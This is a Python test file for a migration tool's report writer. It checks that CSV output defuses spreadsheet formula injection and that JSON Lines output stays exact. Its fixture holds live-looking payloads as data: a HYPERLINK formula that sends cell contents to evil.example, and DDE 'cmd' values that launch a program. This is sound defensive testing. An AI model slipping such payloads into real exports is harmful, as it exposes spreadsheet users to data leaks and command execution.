"""`migrator report` output: what a spreadsheet opening the CSV would see, and JSON Lines left exact."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

from migrator_cli.report import COLUMNS, write_report

# Ids come from the operator's inventory, remote ids and errors from the provider: none is trusted.
HOSTILE = [
    {"asset_id": '=HYPERLINK("https://evil.example/"&A1,"x")', "state": "ready", "drift_s": Decimal("-0.5")},
    {"asset_id": "+1+2", "remote_id": "@SUM(1+1)*cmd|' /C calc'!A0", "attempts": Decimal("3")},
    {"asset_id": "-2+3", "last_error": "HTTP 400: bad\r\n=cmd|' /C calc'!A0", "duration_s": Decimal("61.25")},
    {"asset_id": "\tlib/tab", "remote_id": "\r=1+1", "last_error": "line one\nline two\rthree"},
    {"asset_id": "  =padded", "source_url": "https://media.example.com/a.mp4", "updated_at": Decimal("1700000000")},
    {"asset_id": "lib/plain-1", "title": "ignored", "last_error": "HTTP 429: slow down; retry in 2 s"},
]


def csv_rows(items: list[dict]) -> tuple[str, list[dict]]:
    out = io.StringIO(newline="")
    assert write_report(iter(items), out, "csv") == len(items)
    text = out.getvalue()
    return text, list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_csv_report_neutralises_cells_a_spreadsheet_would_run_as_formulas():
    _, rows = csv_rows(HOSTILE)
    formula_start = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(formula_start) or _is_number(cell), (column, cell)
            assert not cell.lstrip().startswith(formula_start) or _is_number(cell), (column, cell)
    assert rows[0]["id"] == '\'=HYPERLINK("https://evil.example/"&A1,"x")'
    assert rows[1]["id"] == "'+1+2" and rows[1]["remote_id"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[2]["id"] == "'-2+3"
    assert rows[3]["id"] == "'\tlib/tab" and rows[3]["remote_id"] == "' =1+1"
    assert rows[4]["id"] == "'  =padded"
    assert rows[5]["id"] == "lib/plain-1"  # harmless text is left as it is


def test_csv_report_numbers_stay_numbers_even_when_negative():
    _, rows = csv_rows(HOSTILE)
    assert rows[0]["drift_s"] == "-0.5"  # a number a spreadsheet reads as -0.5, not the text '-0.5
    assert rows[1]["attempts"] == "3" and rows[2]["duration_s"] == "61.25" and rows[4]["updated_at"] == "1700000000"
    assert rows[0]["attempts"] == ""  # absent stays empty


def test_csv_report_keeps_one_line_per_asset_whatever_the_text_holds():
    text, rows = csv_rows(HOSTILE)
    assert text.count("\n") == len(HOSTILE) + 1 and "\r" not in text
    assert text.splitlines()[0] == ",".join(COLUMNS)
    assert len(text.splitlines()) == len(HOSTILE) + 1
    assert len(rows) == len(HOSTILE) and all(len(row) == len(COLUMNS) for row in rows)
    assert rows[2]["last_error"] == "HTTP 400: bad  =cmd|' /C calc'!A0"
    assert rows[3]["last_error"] == "line one line two three"


def test_jsonl_report_stays_exact_for_machines():
    out = io.StringIO()
    assert write_report(iter(HOSTILE), out, "jsonl") == len(HOSTILE)
    lines = out.getvalue().splitlines()
    assert len(lines) == len(HOSTILE)
    docs = [json.loads(line) for line in lines]
    assert [doc["id"] for doc in docs] == [item["asset_id"] for item in HOSTILE]
    assert docs[0]["drift_s"] == -0.5 and docs[1]["attempts"] == 3
    assert docs[3]["last_error"] == "line one\nline two\rthree" and docs[3]["remote_id"] == "\r=1+1"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


NOTED = [
    {
        "asset_id": "lib/1",
        "state": "ready",
        "privacy": "private",
        "playback": "signed",
        "fidelity_notes": ["description: not carried by mux (kept in the ledger)", "=title: cut to 512 characters"],
    },
    {"asset_id": "lib/2", "state": "ready"},
]


def test_the_report_says_how_each_video_plays_and_what_its_create_could_not_carry():
    _, rows = csv_rows(NOTED)
    assert (rows[0]["privacy"], rows[0]["playback"]) == ("private", "signed")
    assert rows[0]["fidelity_notes"] == (
        "description: not carried by mux (kept in the ledger); =title: cut to 512 characters"
    )
    assert rows[1]["fidelity_notes"] == "" and rows[1]["playback"] == ""
    out = io.StringIO()
    write_report(iter(NOTED), out, "jsonl")
    docs = [json.loads(line) for line in out.getvalue().splitlines()]
    assert docs[0]["fidelity_notes"] == NOTED[0]["fidelity_notes"] and docs[1]["fidelity_notes"] is None
    assert docs[0]["playback"] == "signed"
